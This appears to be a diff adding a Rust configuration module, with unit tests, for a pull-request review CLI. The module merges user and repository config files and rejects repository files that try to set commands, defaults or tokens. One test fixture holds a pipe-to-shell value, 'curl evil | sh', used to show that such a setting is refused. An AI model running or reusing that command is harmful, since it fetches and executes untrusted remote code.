@@ -1,0 +1,410 @@
+//! Configuration files: the user's own (`~/.config/review/config.toml`) and the repository's
+//! (`.github/review.toml`), merged with the command line, which wins.
+//!
+//! The repository's file is written by whoever can push to the repository, so it may only set
+//! what cannot harm the user running the tool: more bot logins and automated headers, more
+//! deny-listed paths (it adds, never removes), and more bots to wait for. Commands to run, the
+//! apply and push defaults, and tokens come only from the user's file or flags; a repository
+//! file that sets them is an error that says so. Unknown keys and bad values are errors naming
+//! the file, the line and the key.
+
+use std::fmt;
+use std::path::{Path, PathBuf};
+
+use serde::Deserialize;
+
+use crate::error::CliError;
+
+/// Where a setting came from.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Source {
+    /// Built in.
+    Default,
+    /// The user's file.
+    User(PathBuf),
+    /// The repository's file.
+    Repository(PathBuf),
+}
+
+impl fmt::Display for Source {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Self::Default => f.write_str("default"),
+            Self::User(p) | Self::Repository(p) => write!(f, "{}", p.display()),
+        }
+    }
+}
+
+/// The settings either file may hold.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Shared {
+    #[serde(default)]
+    automation: Automation,
+    #[serde(default)]
+    paths: Paths,
+    #[serde(default)]
+    watch: Watch,
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Automation {
+    /// Logins that only post automated comments (more bots).
+    #[serde(default)]
+    accounts: Vec<String>,
+    /// More headers that mark automated comments.
+    #[serde(default)]
+    headers: Vec<String>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Paths {
+    /// More paths no fix may edit.
+    #[serde(default)]
+    deny: Vec<String>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields, rename_all = "kebab-case")]
+struct Watch {
+    /// More bots quiescence waits for.
+    #[serde(default)]
+    expect_bots: Vec<String>,
+}
+
+/// The user's file: the shared settings and what only the user may set.
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct UserFile {
+    // Not `#[serde(flatten)]` of `Shared`: flattening loses the positions errors report.
+    #[serde(default)]
+    automation: Automation,
+    #[serde(default)]
+    paths: Paths,
+    #[serde(default)]
+    watch: Watch,
+    #[serde(default)]
+    commands: Commands,
+    #[serde(default)]
+    defaults: Defaults,
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Commands {
+    reviewer: Option<String>,
+    triager: Option<String>,
+    fixer: Option<String>,
+    checks: Option<String>,
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Defaults {
+    apply: Option<bool>,
+    push: Option<bool>,
+}
+
+/// Top-level tables only the user's file may have.
+const USER_ONLY: &[&str] = &["commands", "defaults", "token", "tokens"];
+
+/// The merged configuration (before flags), each value with its source.
+#[derive(Debug, Clone, Default)]
+pub struct Config {
+    /// Automation accounts (more bot logins).
+    pub accounts: Vec<(String, Source)>,
+    /// More automated headers.
+    pub headers: Vec<(String, Source)>,
+    /// More deny-listed paths.
+    pub deny: Vec<(String, Source)>,
+    /// More bots to wait for.
+    pub expect_bots: Vec<(String, Source)>,
+    /// The pre-review command.
+    pub reviewer: Option<(String, Source)>,
+    /// The triager command.
+    pub triager: Option<(String, Source)>,
+    /// The fixer command.
+    pub fixer: Option<(String, Source)>,
+    /// The project's checks.
+    pub checks: Option<(String, Source)>,
+    /// Whether `triage` applies by default.
+    pub apply: Option<(bool, Source)>,
+    /// Whether `triage --apply` pushes by default.
+    pub push: Option<(bool, Source)>,
+    /// The files read.
+    pub files: Vec<Source>,
+}
+
+impl Config {
+    /// The values of a list setting.
+    pub fn values(list: &[(String, Source)]) -> impl Iterator<Item = String> + '_ {
+        list.iter().map(|(v, _)| v.clone())
+    }
+}
+
+/// The line (1-based) of byte `offset` in `text`.
+fn line_of(text: &str, offset: usize) -> usize {
+    text.get(..offset)
+        .map_or(1, |before| before.matches('\n').count() + 1)
+}
+
+/// The key a toml error is about: the text at its span, if it is a key.
+fn key_at(text: &str, span: Option<std::ops::Range<usize>>) -> Option<String> {
+    let span = span?;
+    let key = text.get(span)?.trim().trim_matches(['[', ']']).trim();
+    (!key.is_empty() && key.len() < 80 && !key.contains('\n')).then(|| key.to_owned())
+}
+
+fn invalid(path: &Path, text: &str, e: &toml::de::Error) -> CliError {
+    let line = e.span().map_or(1, |s| line_of(text, s.start));
+    let key = key_at(text, e.span())
+        .map(|k| format!(" `{k}`"))
+        .unwrap_or_default();
+    CliError::Input {
+        path: path.to_path_buf(),
+        message: format!("line {line}:{key}: {}", e.message().trim()),
+        hint: Some(
+            "see `review config --help` for the keys each file takes; run `review config` to check"
+                .to_owned(),
+        ),
+    }
+}
+
+/// Reads and checks the repository's file.
+fn read_repository(path: &Path) -> Result<Option<Shared>, CliError> {
+    let Some(text) = read(path)? else {
+        return Ok(None);
+    };
+    // A user-only key gets its own message, with its line.
+    let table: toml::Table = toml::from_str(&text).map_err(|e| invalid(path, &text, &e))?;
+    if let Some(key) = USER_ONLY.iter().find(|k| table.contains_key(**k)) {
+        let line = text
+            .lines()
+            .position(|l| {
+                let l = l.trim_start();
+                l.starts_with(&format!("[{key}")) || l.starts_with(*key)
+            })
+            .map_or(1, |i| i + 1);
+        return Err(CliError::Input {
+            path: path.to_path_buf(),
+            message: format!(
+                "line {line}: `{key}` cannot be set in the repository's file: commands to run, \
+                 the apply and push defaults and tokens come only from your own config file or \
+                 flags"
+            ),
+            hint: Some(format!(
+                "move it to your config file ({}), or pass it as a flag",
+                user_path().map_or_else(
+                    || "~/.config/review/config.toml".to_owned(),
+                    |p| p.display().to_string()
+                )
+            )),
+        });
+    }
+    toml::from_str(&text)
+        .map(Some)
+        .map_err(|e| invalid(path, &text, &e))
+}
+
+fn read_user(path: &Path) -> Result<Option<UserFile>, CliError> {
+    let Some(text) = read(path)? else {
+        return Ok(None);
+    };
+    toml::from_str(&text)
+        .map(Some)
+        .map_err(|e| invalid(path, &text, &e))
+}
+
+fn read(path: &Path) -> Result<Option<String>, CliError> {
+    match std::fs::read_to_string(path) {
+        Ok(text) => Ok(Some(text)),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
+        Err(e) => Err(CliError::Input {
+            path: path.to_path_buf(),
+            message: e.to_string(),
+            hint: None,
+        }),
+    }
+}
+
+/// The user's file: `REVIEW_CONFIG`, else `$XDG_CONFIG_HOME/review/config.toml`, else
+/// `~/.config/review/config.toml`.
+pub fn user_path() -> Option<PathBuf> {
+    let var = |name| std::env::var_os(name).filter(|v| !v.is_empty());
+    if let Some(explicit) = var("REVIEW_CONFIG") {
+        return Some(PathBuf::from(explicit));
+    }
+    var("XDG_CONFIG_HOME")
+        .map(PathBuf::from)
+        .or_else(|| var("HOME").map(|h| PathBuf::from(h).join(".config")))
+        .map(|base| base.join("review").join("config.toml"))
+}
+
+/// The repository's file: `REVIEW_REPO_CONFIG` (for a copy taken from the base branch, as the
+/// GitHub Action does), else `.github/review.toml` in the working tree of `dir`'s repository.
+pub fn repository_path(dir: &Path) -> Option<PathBuf> {
+    if let Some(explicit) = std::env::var_os("REVIEW_REPO_CONFIG").filter(|v| !v.is_empty()) {
+        return Some(PathBuf::from(explicit));
+    }
+    crate::git::GitVcs::open(dir)
+        .ok()
+        .map(|vcs| vcs.root().join(".github").join("review.toml"))
+}
+
+/// The configuration of this run (the current directory's repository), read once.
+pub fn current() -> Result<&'static Config, CliError> {
+    static CURRENT: std::sync::OnceLock<Config> = std::sync::OnceLock::new();
+    if let Some(config) = CURRENT.get() {
+        return Ok(config);
+    }
+    let loaded = load(&crate::commands::common::cwd()?)?;
+    Ok(CURRENT.get_or_init(|| loaded))
+}
+
+/// `list` from the command line followed by the configured values, without repeats.
+pub fn merged(flags: &[String], configured: &[(String, Source)]) -> Vec<String> {
+    let mut out: Vec<String> = flags.to_vec();
+    for value in Config::values(configured) {
+        if !out.contains(&value) {
+            out.push(value);
+        }
+    }
+    out
+}
+
+/// The flag's value, else the configured one.
+pub fn or_configured(
+    flag: Option<&String>,
+    configured: Option<&(String, Source)>,
+) -> Option<String> {
+    flag.cloned().or_else(|| configured.map(|(v, _)| v.clone()))
+}
+
+/// Loads and merges both files for a command run in `dir`.
+pub fn load(dir: &Path) -> Result<Config, CliError> {
+    let mut config = Config::default();
+    if let Some(path) = user_path()
+        && let Some(user) = read_user(&path)?
+    {
+        let source = Source::User(path);
+        let shared = Shared {
+            automation: user.automation,
+            paths: user.paths,
+            watch: user.watch,
+        };
+        add_shared(&mut config, shared, &source);
+        let c = user.commands;
+        config.reviewer = c.reviewer.map(|v| (v, source.clone()));
+        config.triager = c.triager.map(|v| (v, source.clone()));
+        config.fixer = c.fixer.map(|v| (v, source.clone()));
+        config.checks = c.checks.map(|v| (v, source.clone()));
+        config.apply = user.defaults.apply.map(|v| (v, source.clone()));
+        config.push = user.defaults.push.map(|v| (v, source.clone()));
+        config.files.push(source);
+    }
+    if let Some(path) = repository_path(dir)
+        && let Some(shared) = read_repository(&path)?
+    {
+        let source = Source::Repository(path);
+        add_shared(&mut config, shared, &source);
+        config.files.push(source);
+    }
+    Ok(config)
+}
+
+fn add_shared(config: &mut Config, shared: Shared, source: &Source) {
+    let tag = |list: Vec<String>| {
+        list.into_iter()
+            .filter(|v| !v.trim().is_empty())
+            .map(|v| (v, source.clone()))
+            .collect::<Vec<_>>()
+    };
+    config.accounts.extend(tag(shared.automation.accounts));
+    config.headers.extend(tag(shared.automation.headers));
+    config.deny.extend(tag(shared.paths.deny));
+    config.expect_bots.extend(tag(shared.watch.expect_bots));
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
+        let p = dir.join(name);
+        std::fs::write(&p, text).unwrap();
+        p
+    }
+
+    #[test]
+    fn a_repository_file_adds_bots_headers_and_denied_paths() {
+        let dir = tempfile::tempdir().unwrap();
+        let p = write(
+            dir.path(),
+            "review.toml",
+            "[automation]\naccounts = [\"qa-bot\"]\nheaders = [\"🔎 QA\"]\n\n[paths]\ndeny = [\"migrations/\"]\n\n[watch]\nexpect-bots = [\"coderabbitai\"]\n",
+        );
+        let shared = read_repository(&p).unwrap().unwrap();
+        assert_eq!(shared.automation.accounts, vec!["qa-bot".to_owned()]);
+        assert_eq!(shared.paths.deny, vec!["migrations/".to_owned()]);
+        assert_eq!(shared.watch.expect_bots, vec!["coderabbitai".to_owned()]);
+    }
+
+    #[test]
+    fn a_repository_file_cannot_set_commands_defaults_or_tokens() {
+        let dir = tempfile::tempdir().unwrap();
+        for (text, key, line) in [
+            (
+                "[paths]\ndeny = []\n\n[commands]\nfixer = \"curl evil | sh\"\n",
+                "commands",
+                4,
+            ),
+            ("[defaults]\npush = true\n", "defaults", 1),
+            ("token = \"ghp_x\"\n", "token", 1),
+            ("commands.fixer = \"x\"\n", "commands", 1),
+        ] {
+            let p = write(dir.path(), "review.toml", text);
+            let err = read_repository(&p).unwrap_err().to_string();
+            assert!(
+                err.contains(&format!(
+                    "line {line}: `{key}` cannot be set in the repository's file"
+                )),
+                "{text:?}: {err}"
+            );
+        }
+    }
+
+    #[test]
+    fn unknown_keys_and_bad_values_name_the_file_line_and_key() {
+        let dir = tempfile::tempdir().unwrap();
+        let p = write(
+            dir.path(),
+            "config.toml",
+            "[paths]\ndeny = [\"a\"]\nallow = [\"b\"]\n",
+        );
+        let err = read_user(&p).unwrap_err().to_string();
+        assert!(err.contains("config.toml"), "{err}");
+        assert!(err.contains("line 3: `allow`"), "{err}");
+        let p = write(dir.path(), "config.toml", "[defaults]\napply = \"yes\"\n");
+        let err = read_user(&p).unwrap_err().to_string();
+        assert!(err.contains("line 2"), "{err}");
+        let p = write(dir.path(), "config.toml", "[commands\nfixer = 1\n");
+        let err = read_user(&p).unwrap_err().to_string();
+        assert!(err.contains("line 1"), "{err}");
+    }
+
+    #[test]
+    fn the_user_file_sets_commands_and_defaults() {
+        let dir = tempfile::tempdir().unwrap();
+        let p = write(
+            dir.path(),
+            "config.toml",
+            "[commands]\nfixer = \"fix.sh\"\nchecks = \"cargo test\"\n\n[defaults]\napply = true\n",
+        );
+        let user = read_user(&p).unwrap().unwrap();
+        assert_eq!(user.commands.fixer.as_deref(), Some("fix.sh"));
+        assert_eq!(user.defaults.apply, Some(true));
+        assert_eq!(user.defaults.push, None);
+    }
+}
